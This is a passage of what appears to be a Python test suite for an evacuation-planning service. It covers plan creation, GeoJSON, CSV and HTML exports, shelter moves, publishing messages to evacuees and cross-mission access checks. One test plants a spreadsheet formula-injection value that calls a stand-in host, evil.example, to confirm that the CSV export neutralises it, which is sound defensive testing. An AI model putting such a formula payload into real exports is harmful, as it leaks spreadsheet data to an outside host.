"""Evacuation plans in safetyd: planned on a worker while the crisis's event
stream tells each stage; households kept whole, medical needs to medical
care, groups within a vehicle's seats; the plan as JSON, GeoJSON, a CSV
manifest and a printable page; publishing numbers it and tells every person
placed where to go; a mission never plans or reads another's."""

import json
import os
import re
import signal
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

from harness import (PG_SH, Cluster, Daemon, EventStream, Session, check, ctl, eventually, expect_equal,
                     record_secret, run)

cluster = Cluster.shared()
DB = "t_plans"
PASSWORD = record_secret("Reyhanli-Kirikhan-2026-plan")
conninfo = cluster.createdb(DB)
expect_equal(ctl(conninfo, "migrate").returncode, 0, "migrate")
for code in ("TR-ANK", "TR-IST"):
    expect_equal(ctl(conninfo, "mission", "add", code, "--name", code, "--country", "TR").returncode, 0, code)
cluster.psql(DB, """
SET ROLE safety;
INSERT INTO household (mission_id, label) VALUES (1, 'Kim family');
-- 1-3: the Kim household; 4: needs medical care; 5, 6: alone; 7: safe, stays; 8: mission B.
INSERT INTO national (mission_id, household_id, name_latin, name_key, needs, last_point) VALUES
  (1, 1, 'KIM A', 'kima', '{child}', ST_SetSRID(ST_MakePoint(36.160, 36.200), 4326)::geography),
  (1, 1, 'KIM B', 'kimb', '{}', ST_SetSRID(ST_MakePoint(36.161, 36.201), 4326)::geography),
  (1, 1, 'KIM C', 'kimc', '{}', ST_SetSRID(ST_MakePoint(36.160, 36.201), 4326)::geography),
  (1, NULL, 'LEE D', 'leed', '{medical}', ST_SetSRID(ST_MakePoint(36.170, 36.210), 4326)::geography),
  (1, NULL, 'PARK E', 'parke', '{}', ST_SetSRID(ST_MakePoint(36.150, 36.190), 4326)::geography),
  (1, NULL, 'CHOI F', 'choif', '{}', ST_SetSRID(ST_MakePoint(36.152, 36.192), 4326)::geography),
  (1, NULL, 'JUNG G', 'jungg', '{}', ST_SetSRID(ST_MakePoint(36.150, 36.200), 4326)::geography),
  (2, NULL, 'KANG H', 'kangh', '{}', ST_SetSRID(ST_MakePoint(36.150, 36.200), 4326)::geography);
INSERT INTO contact (national_id, kind, value) SELECT id, 'phone', '+90532000000' || id FROM national WHERE id <> 6;
INSERT INTO contact (national_id, kind, value) VALUES (6, 'email', 'choi@example.org');
UPDATE national SET languages = '{en}' WHERE id = 6;
INSERT INTO shelter (mission_id, kind, name, point, capacity, medical) VALUES
  (1, 'shelter', 'Defne stadium', ST_SetSRID(ST_MakePoint(36.155, 36.195), 4326)::geography, 4, false),
  (1, 'shelter', 'Antakya state hospital', ST_SetSRID(ST_MakePoint(36.200, 36.230), 4326)::geography, 10, true),
  (1, 'shelter', 'Iskenderun port', ST_SetSRID(ST_MakePoint(36.170, 36.580), 4326)::geography, 50, false),
  (1, 'assembly_point', 'Kurtulus street square', ST_SetSRID(ST_MakePoint(36.158, 36.198), 4326)::geography, 0, false),
  (2, 'shelter', 'Another mission''s shelter', ST_SetSRID(ST_MakePoint(36.15, 36.2), 4326)::geography, 100, false);
INSERT INTO crisis (kind, title, center, radius_m) VALUES ('earthquake', 'Hatay', ST_SetSRID(ST_MakePoint(36.16, 36.2), 4326)::geography, 50000),
  ('earthquake', 'Istanbul', ST_SetSRID(ST_MakePoint(29, 41), 4326)::geography, 50000);
INSERT INTO crisis_mission VALUES (1, 1), (1, 2), (2, 2);
INSERT INTO campaign (crisis_id, mission_id, templates, channels) VALUES (1, 1, '{"en": "x {link}"}', '{sms}'), (1, 2, '{"en": "x {link}"}', '{sms}');
INSERT INTO checkin (crisis_id, national_id, mission_id, campaign_id, next_ask_at)
  SELECT 1, id, mission_id, mission_id, now() + interval '1 hour' FROM national;
""")
d = Daemon(conninfo, sections={"auth": {"password_hash_cost": "10"}}).start()
pwfile = os.path.join(d.workdir, "pw")
with open(pwfile, "w") as f:
    f.write(PASSWORD + "\n")
for name, role, mission in (("lead-a", "mission_lead", "TR-ANK"), ("staff-a", "mission_staff", "TR-ANK"),
                            ("lead-b", "mission_lead", "TR-IST")):
    expect_equal(ctl(conninfo, "user", "add", name, "--role", role, "--mission", mission, "--password-file",
                     pwfile).returncode, 0, name)
lead, staff, lead_b = Session(d, "lead-a", PASSWORD), Session(d, "staff-a", PASSWORD), Session(d, "lead-b", PASSWORD)
for nid, status in ((1, "needs_evacuation"), (4, "injured"), (5, "needs_evacuation"), (6, "needs_evacuation"), (7, "safe")):
    expect_equal(lead.post("/api/v1/crises/1/responses", {"national_id": nid, "status": status}).status, 201, "entry")


def plan(body, session=lead):
    r = session.post("/api/v1/crises/1/plans", body)
    return r


def a_plan_is_made_on_a_worker_and_told_on_the_stream():
    s = EventStream(d, "/api/v1/crises/1/events", {"Cookie": lead.cookie})
    eventually(lambda: s.of("counts"), timeout=5, what="stream open")
    r = plan({"statuses": ["needs_evacuation", "injured"], "seats": 4})
    expect_equal(r.status, 202, r.body)
    pid = r.json()["plan_id"]
    check(r.header("Location") == "/api/v1/plans/%d" % pid, r.header("Location"))
    eventually(lambda: any(e["data"]["state"] == "ready" for e in s.of("plan")), timeout=15, what="plan ready on the stream")
    # Announcements may overtake each other on their way; seq puts them back in order.
    states = [e["data"]["state"] for e in sorted((e for e in s.of("plan") if e["data"]["plan_id"] == pid),
                                                  key=lambda e: e["data"]["seq"])]
    # Stages a small plan passes faster than the loop turns are told once, as the latest.
    expect_equal((states[0], states[-1]), ("running", "ready"), "from the start to the result: %r" % states)
    check(set(states[1:-1]) <= {"candidates", "flow", "rounding", "groups", "done"}, states)
    s.close()
    doc = lead.get("/api/v1/plans/%d" % pid).json()
    expect_equal(doc["state"], "ready", doc)
    res = doc["result"]
    hh = {h["key"]: h for h in res["households"]}
    # The Kim household (one member asked to leave) goes whole, the child with them.
    kim = hh["h1"]
    expect_equal((kim["nationals"], kim["people"]), ([1, 2, 3], 3), "household whole")
    expect_equal(res["stats"]["people"], 6, "Kims, Lee (injured), Park, Choi; not the safe one")
    expect_equal(res["stats"]["people_unassigned"], 0, "everyone placed")
    check(hh["n4"]["shelter_id"] == 2 and hh["n4"]["priority"] == 2, "medical care for the injured: %r" % hh["n4"])
    for g in res["groups"]:
        check(g["people"] <= 4, "a vehicle's seats: %r" % g)
    group_of = {h["key"]: h["group"] for h in res["households"]}
    first = min(res["groups"], key=lambda g: g["order"])
    check(first["priority"] == 2 or first["vulnerable"] > 0, "the injured or vulnerable leave first: %r" % first)
    check(group_of["h1"] is not None, "the household rides together")
    check(res["stats"]["lower_bound_person_m"] <= res["stats"]["cost_person_m"], res["stats"])
    PLAN["id"] = pid


PLAN = {}


def the_plan_comes_as_geojson_csv_and_a_printable_page():
    pid = PLAN["id"]
    gj = lead.get("/api/v1/plans/%d?format=geojson" % pid)
    expect_equal(gj.status, 200, gj.body)
    fc = json.loads(gj.body)
    kinds = sorted({f["properties"]["kind"] for f in fc["features"]})
    expect_equal(kinds, ["assembly", "route", "shelter"], "features")
    check(all(len(f["geometry"]["coordinates"]) == 2 for f in fc["features"]), "points and lines")
    csv = lead.get("/api/v1/plans/%d?format=csv" % pid)
    check(csv.body.startswith("\ufeff"), "a byte order mark for spreadsheets")
    lines = csv.body.lstrip("\ufeff").strip().splitlines()
    expect_equal(lines[0], "group,departure,assembly_lat,assembly_lon,shelter_id,shelter,national_id,name", "header")
    expect_equal(len(lines) - 1, 6, "one line per person")
    check(any('"KIM A"' in line for line in lines), csv.body)
    # A name a spreadsheet would run as a formula is written as text.
    cluster.psql(DB, "UPDATE national SET name_latin = '=HYPERLINK(\"http://evil.example/\"&A1)' WHERE name_latin = 'KIM A'")
    cells = lead.get("/api/v1/plans/%d?format=csv" % pid).body
    cluster.psql(DB, "UPDATE national SET name_latin = 'KIM A' WHERE name_latin LIKE '=HYPERLINK%'")
    check(',"\'=HYPERLINK(""http://evil.example/""&A1)"' in cells and ',"=' not in cells, cells)
    html = lead.get("/api/v1/plans/%d?format=html" % pid)
    check(html.header("Content-Type").startswith("text/html") and "Group 1 - departure" in html.body and
          "LEE D" in html.body, html.body[:500])
    expect_equal(lead.get("/api/v1/plans/%d?format=pdf" % pid).status, 400, "unknown format")


def staff_move_a_household_to_another_shelter():
    pid = PLAN["id"]
    before = lead.get("/api/v1/plans/%d" % pid).json()["result"]
    cluster.psql(DB, "SET ROLE safety; INSERT INTO shelter (mission_id, kind, name, point, capacity) VALUES "
                     "(1, 'shelter', 'Small tent', ST_SetSRID(ST_MakePoint(36.16, 36.2), 4326)::geography, 2)")
    tent = int(cluster.psql(DB, "SELECT id FROM shelter WHERE name = 'Small tent'"))

    def move(body, session=lead):
        return session.post("/api/v1/plans/%d/moves" % pid, body)
    for body, word in (({"household": "h999", "shelter_id": 3}, "household"),
                       ({"household": "n4", "shelter_id": 1}, "medical"),
                       ({"household": "h1", "shelter_id": tent}, "room for 2 more"),
                       ({"household": "h1", "shelter_id": 4}, "not an open shelter"),
                       ({"household": "h1", "shelter_id": 5}, "not an open shelter"),
                       ({"household": "h1"}, "shelter_id")):
        r = move(body)
        check(r.status == 400 and word in r.json()["detail"], "%s: %s" % (word, r.body))
    expect_equal(move({"household": "h1", "shelter_id": 3}, staff).status, 403, "staff cannot change a plan")
    expect_equal(move({"household": "h1", "shelter_id": 3}, lead_b).status, 404, "nor another mission")
    r = move({"household": "h1", "shelter_id": 3})
    expect_equal(r.status, 201, r.body)
    new = r.json()["plan_id"]
    doc = lead.get("/api/v1/plans/%d" % new).json()
    expect_equal(doc["state"], "ready", "a new plan, ready to publish")
    res = doc["result"]
    kim = next(h for h in res["households"] if h["key"] == "h1")
    expect_equal((kim["shelter_id"], kim["moved_by"]), (3, "lead-a"), "the Kims go to Iskenderun port")
    group = next(g for g in res["groups"] if g["no"] == kim["group"])
    expect_equal((group["shelter_id"], group["people"]), (3, 3), "in a group of their own, whole")
    old_kim = next(h for h in before["households"] if h["key"] == "h1")
    load = {s["id"]: s["load"] for s in res["shelters"]}
    old_load = {s["id"]: s["load"] for s in before["shelters"]}
    expect_equal(load[3], old_load.get(3, 0) + 3, "more at the port")
    expect_equal(load[old_kim["shelter_id"]], old_load[old_kim["shelter_id"]] - 3, "less where they were going")
    check(res["stats"]["cost_person_m"] > before["stats"]["cost_person_m"], "a farther shelter costs more")
    check(res["stats"]["gap"] > before["stats"]["gap"], "and the gap to the bound shows it")
    expect_equal(res["stats"]["lower_bound_person_m"], before["stats"]["lower_bound_person_m"], "the bound stays")
    expect_equal(lead.get("/api/v1/plans/%d" % pid).json()["result"], before, "the plan moved from is unchanged")
    csv = lead.get("/api/v1/plans/%d?format=csv" % new).body
    check(all("Iskenderun port" in line for line in csv.splitlines() if "KIM" in line), csv)
    expect_equal(cluster.psql(DB, "SELECT count(*) FROM audit_log WHERE action = 'plan.move'"), "1", "audited")
    # A household the planner could not place (no group at all) is given one; no other group changes.
    unplaced = int(cluster.psql(DB, """INSERT INTO plan (crisis_id, mission_id, state, params, result, created_by)
        SELECT crisis_id, mission_id, 'ready', params, jsonb_set(result, '{households}', (SELECT jsonb_agg(
            CASE WHEN x->>'key' = 'n5' THEN x || '{"shelter_id": null, "group": null, "distance_m": null,
                "unassigned": "capacity"}' ELSE x END) FROM jsonb_array_elements(result->'households') x)),
            'test' FROM plan WHERE id = %d RETURNING id""" % pid).split()[0])
    base = lead.get("/api/v1/plans/%d" % unplaced).json()["result"]
    r = lead.post("/api/v1/plans/%d/moves" % unplaced, {"household": "n5", "shelter_id": 3})
    expect_equal(r.status, 201, r.body)
    res = lead.get("/api/v1/plans/%d" % r.json()["plan_id"]).json()["result"]
    expect_equal(len(res["groups"]), len(base["groups"]) + 1, "every group kept, one added")
    check(all(h["group"] is not None for h in res["households"]), "every household has a group now")
    expect_equal(sum(g["people"] for g in res["groups"]), sum(g["people"] for g in base["groups"]) + 1, "one more rides")
    cluster.psql(DB, "DELETE FROM plan WHERE id IN (%d, %d)" % (unplaced, r.json()["plan_id"]))
    cluster.psql(DB, "DELETE FROM shelter WHERE id = %d" % tent)
    cluster.psql(DB, "DELETE FROM plan WHERE id = %d" % new)


def publishing_tells_everyone_where_to_go():
    pid = PLAN["id"]
    expect_equal(staff.post("/api/v1/plans/%d/publish" % pid).status, 403, "staff cannot publish")
    r = lead.post("/api/v1/plans/%d/publish" % pid)
    expect_equal(r.status, 200, r.body)
    expect_equal((r.json()["version"], r.json()["messages"]), (1, 6), "version 1, six people told")
    bodies = cluster.psql(DB, "SELECT channel || ':' || body FROM outbox WHERE campaign_id IS NULL ORDER BY national_id").splitlines()
    # In the person's language: Korean by default, English for the one who reads English.
    check(all("[대피 계획 1]" in b and "조" in b for b in bodies[:5]), bodies)
    check("[Evacuation plan 1] Group" in bodies[5], bodies[5])
    check(bodies[5].startswith("email:") and bodies[0].startswith("sms:"), "SMS, or e-mail without a phone: %r" % bodies)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % pid).status, 404, "published once")
    check("plan_published" in cluster.psql(DB, "SELECT string_agg(kind, ',') FROM crisis_event"), "crisis event")
    r = plan({"seats": 45})
    pid2 = r.json()["plan_id"]
    eventually(lambda: lead.get("/api/v1/plans/%d" % pid2).json()["state"] == "ready", timeout=15, what="second plan")
    expect_equal(lead.post("/api/v1/plans/%d/publish" % pid2).json()["version"], 2, "version 2")
    expect_equal(lead.get("/api/v1/plans/%d" % pid).json()["state"], "superseded", "the first superseded")
    m = re.search(r'^safety_plans_total\{outcome="ready"\} (\d+)', d.get("/metrics").body, re.M)
    check(m and int(m.group(1)) == 2, "two plans counted ready in /metrics")


def bad_requests_and_other_missions_are_refused():
    expect_equal(plan({"statuses": ["sleeping"]}).status, 400, "unknown status")
    expect_equal(plan({"seats": 0}).status, 400, "no seats")
    expect_equal(plan({"statuses": []}).status, 400, "empty statuses")
    expect_equal(staff.post("/api/v1/crises/1/plans", {}).status, 403, "staff cannot plan")
    expect_equal(lead.post("/api/v1/crises/2/plans", {}).status, 404, "another mission's crisis")
    expect_equal(lead_b.get("/api/v1/plans/%d" % PLAN["id"]).status, 404, "another mission's plan")
    expect_equal(lead_b.post("/api/v1/plans/%d/publish" % PLAN["id"]).status, 404, "nor publish it")


def a_crisis(title, statuses=((1, "needs_evacuation"), (4, "injured"), (5, "needs_evacuation"),
                                (6, "needs_evacuation"), (7, "safe"))):
    """A crisis of mission A alone, with the people of crisis 1 in it: its plans are numbered,
    published and messaged apart from every other test's."""
    cid = int(cluster.psql(DB, "INSERT INTO crisis (kind, title, center, radius_m) VALUES ('earthquake', '%s', "
                               "ST_SetSRID(ST_MakePoint(36.16, 36.2), 4326)::geography, 50000) RETURNING id"
                           % title).split()[0])
    cluster.psql(DB, """SET ROLE safety;
INSERT INTO crisis_mission VALUES (%(c)d, 1);
INSERT INTO campaign (crisis_id, mission_id, templates, channels) VALUES (%(c)d, 1, '{"en": "x {link}"}', '{sms}');
INSERT INTO checkin (crisis_id, national_id, mission_id, campaign_id, next_ask_at)
  SELECT %(c)d, id, 1, (SELECT id FROM campaign WHERE crisis_id = %(c)d), now() + interval '1 hour'
  FROM national WHERE mission_id = 1""" % {"c": cid})
    for nid, status in statuses:
        expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": nid, "status": status}).status,
                     201, "status of %d in crisis %d" % (nid, cid))
    return cid


def ready_plan(cid, body=None):
    r = lead.post("/api/v1/crises/%d/plans" % cid, body or {"statuses": ["needs_evacuation", "injured"], "seats": 4})
    expect_equal(r.status, 202, r.body)
    pid = r.json()["plan_id"]
    eventually(lambda: lead.get("/api/v1/plans/%d" % pid).json()["state"] == "ready", timeout=15,
               what="plan %d ready" % pid)
    return pid


def moved(pid, household, shelter):
    r = lead.post("/api/v1/plans/%d/moves" % pid, {"household": household, "shelter_id": shelter})
    expect_equal(r.status, 201, r.body)
    return r.json()["plan_id"]


def state_of(pid):
    return lead.get("/api/v1/plans/%d" % pid).json()["state"]


def messages_in(cid):
    return int(cluster.psql(DB, "SELECT count(*) FROM outbox WHERE crisis_id = %d AND campaign_id IS NULL" % cid))


def repeated_statuses_are_one_set():
    # A status named again and again is the same set: it was written out once per mention and
    # ran past the request's buffer.
    r = plan({"statuses": ["needs_evacuation"] * 3000})
    expect_equal(r.status, 202, r.body[:300])
    pid = r.json()["plan_id"]
    eventually(lambda: lead.get("/api/v1/plans/%d" % pid).json()["state"] == "ready", timeout=15, what="plan ready")
    expect_equal(lead.get("/api/v1/plans/%d" % pid).json()["params"]["statuses"], ["needs_evacuation"], "one status")
    every = ["unknown", "unreachable", "needs_evacuation", "injured", "needs_help", "safe", "pending"]
    r = plan({"statuses": every * 40})
    expect_equal(r.status, 202, r.body[:300])
    pid = r.json()["plan_id"]
    eventually(lambda: lead.get("/api/v1/plans/%d" % pid).json()["state"] == "ready", timeout=15, what="plan ready")
    expect_equal(lead.get("/api/v1/plans/%d" % pid).json()["params"]["statuses"], every[::-1],
                 "each status once, in a fixed order")
    for bad in (["needs_evacuation"] * 20 + ["sleeping"], ["needs_evacuation", 7], ["deceased"], "injured"):
        expect_equal(plan({"statuses": bad}).status, 400, "statuses %r" % bad[-3:])
    expect_equal(d.get("/metrics").status, 200, "the daemon still answers")


def two_publishes_at_once_publish_one_plan():
    cid = a_crisis("Two at once")
    first = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % first).status, 200, "version 1")
    told = messages_in(cid)
    a, b = ready_plan(cid), ready_plan(cid)
    # An operator's transaction holds the published plan: both publishes reach it and wait, so
    # they run at the same moment once it goes.
    held = subprocess.Popen([PG_SH, "psql", cluster.dir, "-d", DB, "-At"], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True)
    answers = {}
    try:
        held.stdin.write("BEGIN;\nSELECT id FROM plan WHERE id = %d FOR UPDATE;\n" % first)
        held.stdin.flush()
        expect_equal(held.stdout.readline().strip(), str(first), "the published plan is held")
        threads = [threading.Thread(target=lambda p=p: answers.__setitem__(
            p, lead.post("/api/v1/plans/%d/publish" % p))) for p in (a, b)]
        for t in threads:
            t.start()
        eventually(lambda: int(cluster.psql(DB, "SELECT count(*) FROM pg_stat_activity WHERE datname = '%s' "
                                                "AND wait_event_type = 'Lock'" % DB)) == 2,
                   timeout=10, what="both publishes waiting")
    finally:
        held.stdin.write("COMMIT;\n")
        held.stdin.close()
        held.wait(timeout=10)
    for t in threads:
        t.join(timeout=20)
    statuses = sorted(answers[p].status for p in (a, b))
    expect_equal(statuses, [200, 409], "one published, the other refused: %r" % {p: answers[p].body for p in (a, b)})
    won = a if answers[a].status == 200 else b
    lost = b if won == a else a
    expect_equal((state_of(won), state_of(lost), state_of(first)), ("published", "ready", "superseded"), "states")
    expect_equal(answers[won].json()["version"], 2, "numbered after the first")
    check("plan %d was published" % won in answers[lost].json()["detail"], answers[lost].body)
    expect_equal(messages_in(cid) - told, answers[won].json()["messages"], "one plan's messages")
    expect_equal(cluster.psql(DB, "SELECT count(*) FROM plan WHERE crisis_id = %d AND state = 'published'" % cid),
                 "1", "one published plan")


def a_plan_older_than_the_published_one_is_refused():
    cid = a_crisis("Stale plans")
    base = ready_plan(cid)
    kims = moved(base, "h1", 3)
    park = moved(base, "n5", 3)
    # Made from the Kims' move before it was published: it holds that move, so it may follow it.
    both = moved(kims, "n5", 3)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % kims).status, 200, "the Kims' move published")
    for stale in (park, base):
        r = lead.post("/api/v1/plans/%d/publish" % stale)
        expect_equal(r.status, 409, r.body)
        expect_equal(r.json()["detail"], "plan %d was published after this plan was made; make your change "
                                         "from plan %d" % (kims, kims), "the newer plan named")
        expect_equal(state_of(stale), "ready", "left as it was")
    expect_equal(state_of(kims), "published", "the Kims' move stays published")
    # A move made now from a plan older than the published one would lose the Kims' move too.
    late = moved(park, "n6", 3)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % late).status, 409, "a late move from a stale plan")
    r = lead.post("/api/v1/plans/%d/publish" % both)
    expect_equal(r.status, 200, r.body)
    hh = {h["key"]: h["shelter_id"] for h in lead.get("/api/v1/plans/%d" % both).json()["result"]["households"]}
    expect_equal((hh["h1"], hh["n5"]), (3, 3), "both moves kept")
    # A plan the planner makes after the publication is newer: it may be published.
    fresh = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % fresh).json()["version"], 3, "a fresh plan")


def publishing_leaves_out_the_deleted_the_dead_and_the_gone():
    cid = a_crisis("Who is told")
    pid = ready_plan(cid)
    cluster.psql(DB, "UPDATE national SET deleted_at = now() WHERE id = 5")
    try:
        for nid, status in ((2, "deceased"), (3, "missing"), (6, "evacuated")):
            expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": nid, "status": status}).status,
                         201, status)
        eventually(lambda: cluster.psql(DB, "SELECT count(*) FROM person_status WHERE crisis_id = %d AND status IN "
                                            "('deceased', 'missing', 'evacuated')" % cid) == "3",
                   timeout=5, what="the statuses written")
        csv = lead.get("/api/v1/plans/%d?format=csv" % pid).body
        people = sorted(int(line.split(",")[6]) for line in csv.strip().splitlines()[1:])
        expect_equal(people, [1, 4], "the manifest names those who still travel: %s" % csv)
        html = lead.get("/api/v1/plans/%d?format=html" % pid).body
        check("KIM A" in html and "LEE D" in html, html)
        for name in ("KIM B", "KIM C", "PARK E", "CHOI F"):
            check(name not in html, "%s on the printed page" % name)
        r = lead.post("/api/v1/plans/%d/publish" % pid)
        expect_equal(r.status, 200, r.body)
        expect_equal(r.json()["messages"], 2, "two people told")
        expect_equal(cluster.psql(DB, "SELECT string_agg(national_id::text, ',' ORDER BY national_id) FROM outbox "
                                      "WHERE crisis_id = %d AND campaign_id IS NULL" % cid), "1,4", "who was told")
    finally:
        cluster.psql(DB, "UPDATE national SET deleted_at = NULL WHERE id = 5")


def a_closed_crisis_takes_no_plans():
    cid = a_crisis("Closed")
    published = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % published).status, 200, "published while active")
    waiting = ready_plan(cid)
    told = messages_in(cid)
    cluster.psql(DB, "UPDATE crisis SET state = 'closed', closed_at = now() WHERE id = %d" % cid)
    for what, r in (("publish", lead.post("/api/v1/plans/%d/publish" % waiting)),
                    ("move", lead.post("/api/v1/plans/%d/moves" % published, {"household": "n5", "shelter_id": 3})),
                    ("plan", lead.post("/api/v1/crises/%d/plans" % cid, {}))):
        expect_equal(r.status, 409, "%s: %s" % (what, r.body))
        check("the crisis is closed" in r.json()["detail"], r.body)
    expect_equal(messages_in(cid), told, "nobody told after the close")
    expect_equal(state_of(waiting), "ready", "not published")
    expect_equal(cluster.psql(DB, "SELECT count(*) FROM plan WHERE crisis_id = %d" % cid), "2", "no plan made")


def a_move_keeps_departures_in_the_planners_order():
    # Park is injured: a group leaving first. Moved, it still leaves with the first.
    cid = a_crisis("Departures", statuses=((1, "needs_evacuation"), (4, "needs_evacuation"), (5, "injured"),
                                           (6, "needs_evacuation")))
    pid = ready_plan(cid)
    before = lead.get("/api/v1/plans/%d" % pid).json()["result"]
    park_before = next(g for g in before["groups"] if g["no"] == next(
        h["group"] for h in before["households"] if h["key"] == "n5"))
    expect_equal((park_before["priority"], park_before["order"]), (2, 0), "the injured leave first: %r" % before)
    new = moved(pid, "n5", 3)
    res = lead.get("/api/v1/plans/%d" % new).json()["result"]
    groups = sorted(res["groups"], key=lambda g: g["order"])
    expect_equal([g["order"] for g in groups], list(range(len(groups))), "departures from 0, as the planner's")
    expect_equal([g["no"] for g in groups], list(range(1, len(groups) + 1)), "groups numbered in departure order")
    standing = [(g["priority"], g["vulnerable"]) for g in groups]
    expect_equal(standing, sorted(standing, reverse=True), "priority, then vulnerable people, first: %r" % groups)
    park = next(g for g in res["groups"] if g["no"] == next(h["group"] for h in res["households"] if h["key"] == "n5"))
    expect_equal((park["shelter_id"], park["priority"], park["order"]), (3, 2, 0), "Park still leaves first")
    for g in res["groups"]:
        expect_equal(g["people"], sum(h["people"] for h in res["households"] if h["group"] == g["no"]),
                     "people of group %d" % g["no"])
    csv = lead.get("/api/v1/plans/%d?format=csv" % new).body.strip().splitlines()[1:]
    departures = sorted({int(line.split(",")[1]) for line in csv})
    expect_equal(departures, list(range(1, len(groups) + 1)), "the manifest's departures from 1")
    expect_equal(lead.post("/api/v1/plans/%d/publish" % new).status, 200, "published")
    sms = cluster.psql(DB, "SELECT body FROM outbox WHERE crisis_id = %d AND national_id = 5 AND campaign_id IS NULL"
                       % cid)
    check("%d조, 1번째 출발" % park["no"] in sms, sms)


def plan_messages(cid):
    return [line.split("|", 3) for line in cluster.psql(
        DB, "SELECT id, national_id, kind, body FROM outbox WHERE crisis_id = %d AND campaign_id IS NULL "
            "ORDER BY id" % cid).splitlines()]


def sent_texts():
    path = os.path.join(d.workdir, "outbox-log.jsonl")
    if not os.path.exists(path):
        return {}
    with open(path) as f:
        return {x["outbox_id"]: x["text"] for x in map(json.loads, f)}


def plan_messages_of_a_drill_are_marked_and_sent_as_written():
    cid = a_crisis("Drill plan")
    cluster.psql(DB, "UPDATE crisis SET drill = true WHERE id = %d" % cid)
    pid = ready_plan(cid)
    r = lead.post("/api/v1/plans/%d/publish" % pid)
    expect_equal(r.status, 200, r.body)
    msgs = plan_messages(cid)
    expect_equal(len(msgs), r.json()["messages"], "one message per person told")
    for mid, nid, kind, body in msgs:
        expect_equal(kind, "plan", "a plan message is no check-in: %s" % body)
        check(body.startswith("[DRILL] [Evacuation plan" if nid == "6" else "[훈련] [대피 계획"), body)
    # Sent as written: no reply link added.
    eventually(lambda: all(int(m[0]) in sent_texts() for m in msgs), timeout=10, what="plan messages sent")
    texts = sent_texts()
    for mid, nid, kind, body in msgs:
        expect_equal(texts[int(mid)], body, "sent as written")
    # A plan message does not hold back the next ask of a check-in not answered (Kim B's).
    expect_equal(cluster.psql(DB, "SELECT state::text || round FROM checkin WHERE crisis_id = %d AND national_id = 2"
                              % cid), "asked1", "asked once")
    cluster.psql(DB, "UPDATE checkin SET next_ask_at = now() - interval '1 second' WHERE crisis_id = %d "
                     "AND national_id = 2" % cid)
    eventually(lambda: cluster.psql(DB, "SELECT count(*) FROM campaign_escalate()") and cluster.psql(
        DB, "SELECT round FROM checkin WHERE crisis_id = %d AND national_id = 2" % cid) == "2",
        timeout=10, what="the check-in asked again")


def plan_messages_sent(cid, what, timeout=10):
    """Waits until no plan message of the crisis is waiting or at the gateway."""
    eventually(lambda: cluster.psql(DB, "SELECT count(*) FROM outbox WHERE crisis_id = %d AND kind = 'plan' "
                                        "AND state IN ('queued', 'sending')" % cid) == "0", timeout=timeout, what=what)


def people_a_new_plan_drops_are_told_their_instructions_are_cancelled():
    cid = a_crisis("Dropped")
    first = ready_plan(cid)
    expect_equal(lead.post("/api/v1/plans/%d/publish" % first).status, 200, "version 1")
    # Instructions withdrawn before they went out were never anyone's: these went out.
    plan_messages_sent(cid, "version 1 sent")
    before = {m[0] for m in plan_messages(cid)}
    # Park is safe now and no longer planned; Choi died: nobody writes to the dead.
    for nid, status in ((5, "safe"), (6, "deceased")):
        expect_equal(lead.post("/api/v1/crises/%d/responses" % cid, {"national_id": nid, "status": status}).status,
                     201, status)
    second = ready_plan(cid)
    r = lead.post("/api/v1/plans/%d/publish" % second)
    expect_equal(r.status, 200, r.body)
    expect_equal(r.json()["cancelled_messages"], 1, r.body)
    new = [m for m in plan_messages(cid) if m[0] not in before]
    expect_equal(len(new), r.json()["messages"] + 1, "the new plan's and one cancellation")
    cancel = [m for m in new if "취소" in m[3]]
    expect_equal([(m[1], m[2]) for m in cancel], [("5", "plan")], "Park told, as a plan message")
    check("이전 대피 안내(계획 1)는 취소" in cancel[0][3] and "대사관의 안내를 기다려" in cancel[0][3], cancel)
    expect_equal(sorted(int(m[1]) for m in new if m not in cancel), [1, 2, 3, 4], "the others told their plan")


def a_plan_whose_shelter_closed_or_filled_is_not_published():
    cid = a_crisis("Shelter closed")
    pid = ready_plan(cid)
    res = lead.get("/api/v1/plans/%d" % pid).json()["result"]
    used = next(s for s in res["shelters"] if s["load"] > 0)
    try:
        cluster.psql(DB, "UPDATE shelter SET open = false WHERE id = %d" % used["id"])
        r = lead.post("/api/v1/plans/%d/publish" % pid)
        expect_equal(r.status, 409, r.body)
        check("%s (closed)" % used["name"] in r.json()["detail"] and "make a new plan or move" in r.json()["detail"],
              r.body)
        cluster.psql(DB, "UPDATE shelter SET open = true, occupancy = capacity - %d + 1 WHERE id = %d"
                     % (used["load"], used["id"]))
        r = lead.post("/api/v1/plans/%d/publish" % pid)
        expect_equal(r.status, 409, r.body)
        check("room for %d, the plan sends %d" % (used["load"] - 1, used["load"]) in r.json()["detail"], r.body)
        expect_equal((state_of(pid), messages_in(cid)), ("ready", 0), "nothing published, nobody told")
    finally:
        cluster.psql(DB, "UPDATE shelter SET open = true, occupancy = 0 WHERE id = %d" % used["id"])
    expect_equal(lead.post("/api/v1/plans/%d/publish" % pid).status, 200, "published once there is room")


def a_plan_names_the_contact_that_reaches_people():
    cid = a_crisis("Contacts")
    # Park's second phone was confirmed: it is the one written to, over the unconfirmed first.
    cluster.psql(DB, "INSERT INTO contact (national_id, kind, value, priority, verified) "
                     "VALUES (5, 'phone', '+905329990005', 2, true)")
    try:
        pid = ready_plan(cid)
        expect_equal(lead.post("/api/v1/plans/%d/publish" % pid).status, 200, "published")
        expect_equal(cluster.psql(DB, "SELECT recipient FROM outbox WHERE crisis_id = %d AND national_id = 5 "
                                      "AND kind = 'plan'" % cid), "+905329990005", "the verified phone")
    finally:
        cluster.psql(DB, "DELETE FROM contact WHERE value = '+905329990005'")
    # A mission no longer in the crisis publishes nothing there.
    pid = ready_plan(cid)
    cluster.psql(DB, "DELETE FROM crisis_mission WHERE crisis_id = %d AND mission_id = 1" % cid)
    try:
        r = lead.post("/api/v1/plans/%d/publish" % pid)
        expect_equal(r.status, 409, r.body)
